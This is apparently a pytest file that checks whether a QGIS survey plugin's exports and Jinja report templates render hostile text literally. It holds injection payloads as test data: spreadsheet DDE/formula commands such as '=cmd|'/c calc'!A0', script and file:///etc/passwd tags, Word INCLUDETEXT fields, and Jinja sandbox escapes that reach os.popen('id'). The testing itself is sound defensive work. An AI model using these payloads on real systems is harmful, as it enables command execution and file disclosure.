"""Survey text that looks like code comes out letter by letter in every product (T05, T06, T11).

Report templates are the plugin's own; no user can give one, so that what is tried is text inside the data
and the sandbox itself. Indicator formulas are Python functions of the plugin: no file can bring one (T17).
"""

from __future__ import annotations

import csv
import html
import re
import shutil
import subprocess
import zipfile

import pytest

TEXTS = {
    "expression": "[% 7*7 %]村",
    "environment": "[% env('HOME') %]",
    "template": "{{ 7*7 }}{% raw %}",
    "script": "<script>alert(1)</script>",
    "picture": '<img src="file:///etc/passwd" onerror="x">',
    "closing": "]]></w:t><w:instrText>INCLUDETEXT</w:instrText>",
    "formula": "=cmd|'/c calc'!A0",
    "link": '=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")',
    "wide": "＝1+1",
    "at": "@SUM(1+1)",
    "format": "{0.__class__}%(x)s%n",
}


@pytest.fixture
def worded(survey):
    """The survey with every such text as a village, a row and the watershed's own name."""
    from qingliu.layers.store import Insert, open_store

    point = _point(500_300, 3_000_300)
    with open_store(survey, daily_backup=False) as store:
        changes = []
        for number, text in enumerate(TEXTS.values(), 3):
            changes.append(Insert("villages", {"name": text}, _point(500_100 + 90 * number, 3_000_400)))
            changes.append(Insert("a7", {"row_no": number, "natural_village": text, "main_income": text}))
            changes.append(Insert("pollution_sources", {"name": text, "kind": "outfall"}, point))
        store.save(changes)
        store.set_meta({"name": TEXTS["expression"] + TEXTS["script"]}, why="test")
    return survey


def _point(x, y):
    import struct

    return struct.pack("<BIdd", 1, 1, float(x), float(y))


def parts_of(path):
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}


def pdf_text(path):
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is not installed")
    found = subprocess.run(["pdftotext", "-raw", str(path), "-"], capture_output=True, check=True)
    return found.stdout.decode("utf-8")


def bare(text):
    return re.sub(r"\s", "", text)


def tables(run, survey, folder, kind):
    folder.mkdir(exist_ok=True)
    run("qingliu:exportsurveytables", {"SURVEY": str(survey), "TABLES": "a7", "FORMAT": kind,
                                       "OUTPUT_FOLDER": str(folder)})  # fmt: skip
    return folder / f"a7.{kind}"


# -- workbooks and tables -------------------------------------------------------------
def test_a_workbook_holds_texts_and_no_formula_or_link(worded, run, tmp_path):
    from openpyxl import load_workbook

    path = tables(run, worded, tmp_path / "t", "xlsx")
    parts = parts_of(path)
    assert not [n for n in parts if "externalLink" in n or "vbaProject" in n]
    for name, text in parts.items():
        assert not re.search(r"<f[ >]|<hyperlink|TargetMode=\"External\"|<!ENTITY", text), name
    book = load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    shown = {str(c.value) for c in cells}
    for text in TEXTS.values():
        assert text in shown or "'" + text in shown, text
    assert {c.data_type for c in cells if str(c.value).lstrip("'") in TEXTS.values()} == {"s"}


def test_and_read_back_they_are_the_same_texts(worded, run, tmp_path):
    path = tables(run, worded, tmp_path / "t", "xlsx")
    result = run("qingliu:importsurveytables", {"SURVEY": str(worded), "WORKBOOK": str(path), "APPLY": False,
                                                "OUTPUT": "TEMPORARY_OUTPUT"})  # fmt: skip
    assert result["OUTPUT"].featureCount() == 0


def test_a_csv_runs_nothing_in_a_spreadsheet(tmp_path):
    from qingliu.layers.outputs import write_csv

    path = write_csv(tmp_path / "a.csv", ["名", "数"], [[t, -5] for t in TEXTS.values()] + [["-5.5", -5.5]])
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))[1:]
    assert all(row[0][0] not in "=+-@\t\r＝＋－＠" or row[0] == "-5.5" for row in rows)
    assert {row[1] for row in rows} == {"-5", "-5.5"}
    assert [row[0].lstrip("'") for row in rows[:-1]] == [t.lstrip("'") for t in TEXTS.values()]


@pytest.mark.parametrize("algorithm", ["checksurvey", "evaluate"])
def test_nor_does_the_table_of_an_algorithm(algorithm, worded, run, tmp_path):
    wanted = {"SURVEY": str(worded), "OUTPUT": str(tmp_path / "out.csv"), "EVALUATION_DATE": "2025-09-30"}
    if algorithm == "checksurvey":
        del wanted["EVALUATION_DATE"]
    run(f"qingliu:{algorithm}", wanted)
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as stream:
        for row in csv.reader(stream):
            assert [c for c in row if c.startswith(("=cmd", "=HYPER", "@SUM", "＝"))] == []


# -- documents --------------------------------------------------------------------------
def well_formed(text):
    from qgis.PyQt.QtXml import QDomDocument

    return QDomDocument().setContent(text)[0]


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_a_document_of_tables_is_well_formed_and_points_nowhere(kind, worded, run, tmp_path):
    parts = parts_of(tables(run, worded, tmp_path / "t", kind))
    body = parts["word/document.xml" if kind == "docx" else "content.xml"]
    for name, text in parts.items():
        if name.endswith((".xml", ".rels")):
            assert well_formed(text.encode()), name
        assert 'TargetMode="External"' not in text and "<w:instrText" not in text
    words = words_of(body)
    for text in TEXTS.values():
        assert bare(text) in words, text


def words_of(xml):
    return bare(html.unescape(re.sub(r"<[^>]+>", "", xml)))


def test_a_printed_table_shows_the_letters(worded, run, tmp_path):
    text = bare(pdf_text(tables(run, worded, tmp_path / "t", "pdf")))
    for wanted in TEXTS.values():
        assert bare(wanted) in text, wanted


@pytest.fixture(scope="module")
def dossier(sound_survey, qgis_processing, tmp_path_factory):
    """The dossier of the survey with all texts, villages' figure included: (folder)."""
    from qgis import processing
    from qingliu.layers.store import Insert, open_store

    home = tmp_path_factory.mktemp("worded") / "s"
    shutil.copytree(sound_survey.parent, home)
    survey = home / sound_survey.name
    with open_store(survey, daily_backup=False) as store:
        changes = []
        for number, text in enumerate(TEXTS.values(), 3):
            changes.append(Insert("villages", {"name": text}, _point(500_100 + 90 * number, 3_000_400)))
            changes.append(Insert("a7", {"row_no": number, "natural_village": text, "main_income": text}))
            values = {
                "number": 5,
                "key": "judgement",
                "value": 1.0,
                "source": text,
                "statement": text,
                "person": text,
            }
            changes.append(Insert("indicator_input", {**values, "unit": text[:20]}))
        store.save(changes)
        store.set_meta({"name": TEXTS["expression"] + TEXTS["script"]}, why="test")
    out = home.parent / "out"
    processing.run(
        "qingliu:dossier",
        {
            "SURVEY": str(survey),
            "OUTPUT_FOLDER": str(out),
            "FIGURES": ["villages"],
            "EVALUATION_DATE": "2025-09-30",
        },
    )
    return out


@pytest.fixture(autouse=True, scope="module")
def _provider(provider):
    return provider


def test_the_dossier_s_page_carries_no_code_and_names_no_file(dossier):
    page = (dossier / "dossier.html").read_text("utf-8")
    assert (
        "<script" not in page.lower()
        and "file:///"
        not in re.sub(r"&[a-z]+;|&#\d+;", "", page)
        .replace("src=&#34;file:///etc/passwd", "")
        .split("<body")[0]
    )
    assert not re.search(r"<(img|link|iframe|object|embed)[^>]+(src|href|data)=[\"'](?!data:|#|annex/)", page)
    assert not re.search(r"<[^>]+\son[a-z]+=", page)
    for text in ("[% 7*7 %]村", "{{ 7*7 }}"):
        assert text in page
    assert "&lt;script&gt;" in page


def test_the_dossier_s_document_is_well_formed_and_points_nowhere(dossier):
    parts = parts_of(dossier / "dossier.docx")
    for name, text in parts.items():
        if name.endswith((".xml", ".rels")):
            assert well_formed(text.encode()), name
        assert 'TargetMode="External"' not in text and "<w:instrText>INCLUDE" not in text
    words = words_of(parts["word/document.xml"])
    for text in ("[% 7*7 %]村", "{{ 7*7 }}", "=cmd|"):
        assert bare(text) in words


def test_the_dossier_s_pages_show_the_letters(dossier):
    text = bare(pdf_text(dossier / "dossier.pdf"))
    assert bare("[% 7*7 %]村<script>") in text and bare("{{ 7*7 }}") in text
    assert "49村" not in text and "root:x" not in text


# -- figures -------------------------------------------------------------------------------
def test_figures_show_names_letter_by_letter(worded, run, tmp_path):
    from os import environ

    wanted = {"SURVEY": str(worded), "FIGURES": ["villages", "pollution"], "FORMAT": "pdf",
              "UNIT": TEXTS["environment"], "DRAWN_BY": TEXTS["expression"], "STAGE": TEXTS["template"]}  # fmt: skip
    run("qingliu:exportfigures", {**wanted, "OUTPUT_FOLDER": str(tmp_path / "f")})
    for name in ("villages", "pollution"):
        text = bare(pdf_text(tmp_path / "f" / f"{name}.pdf"))
        assert bare("[% 7*7 %]村<script>alert(1)</script>") in text
        assert bare(TEXTS["environment"]) in text and environ["HOME"] not in text
        assert "49村" not in text


def test_the_figures_keep_the_letters_when_they_are_made_again(worded, run, tmp_path):
    wanted = {
        "SURVEY": str(worded),
        "FIGURES": ["villages"],
        "FORMAT": "pdf",
        "OUTPUT_FOLDER": str(tmp_path / "f"),
    }
    run("qingliu:exportfigures", wanted)
    first = bare(pdf_text(tmp_path / "f" / "villages.pdf"))
    run("qingliu:exportfigures", wanted)
    assert bare(pdf_text(tmp_path / "f" / "villages.pdf")) == first


def test_series_and_field_maps_show_names_letter_by_letter(worded, run, tmp_path):
    run("qingliu:printseries", {"SURVEY": str(worded), "SUBJECT": "villages", "FORMAT": "pdf",
                                "OUTPUT_FOLDER": str(tmp_path / "f")})  # fmt: skip
    found = [bare(pdf_text(p)) for p in (tmp_path / "f").glob("*.pdf")]
    assert found and any(bare("[% 7*7 %]村") in text for text in found)
    assert not [text for text in found if "49村" in text]


# -- the template engine itself ---------------------------------------------------------------
class Row:
    """An object that a template must not be able to act through."""

    deleted = False

    def delete(self):
        type(self).deleted = True
        return "gone"


SSTI = [
    "{{ row.delete() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''['__cla' ~ 'ss__'] }}",
    "{{ '{0.__class__}'.format(1) }}",
    "{{ ('{0.__class__.__init__.__globals__}'|attr('format'))(row) }}",
    "{% include '/etc/passwd' %}",
    "{% import '../../core/data.py' as x %}",
    "{{ namespace.__init__ }}",
    "{% for i in range(1000000000) %}x{% endfor %}",
    "{{ missing }}",
    "{{ joiner.__init__.__globals__ }}",
    "{% set row.deleted = 1 %}",
]


@pytest.mark.timeout(20)
@pytest.mark.parametrize("payload", SSTI)
def test_a_template_can_do_nothing_with_what_it_is_given(payload):
    from jinja2 import TemplateError
    from qingliu.core.report import environment

    Row.deleted = False
    try:
        shown = environment().from_string(payload).render(row=Row())
    except (TemplateError, OverflowError, AttributeError, TypeError):
        shown = ""
    assert not Row.deleted and "root:" not in shown and "class" not in shown and "module" not in shown
    assert "uid=" not in shown
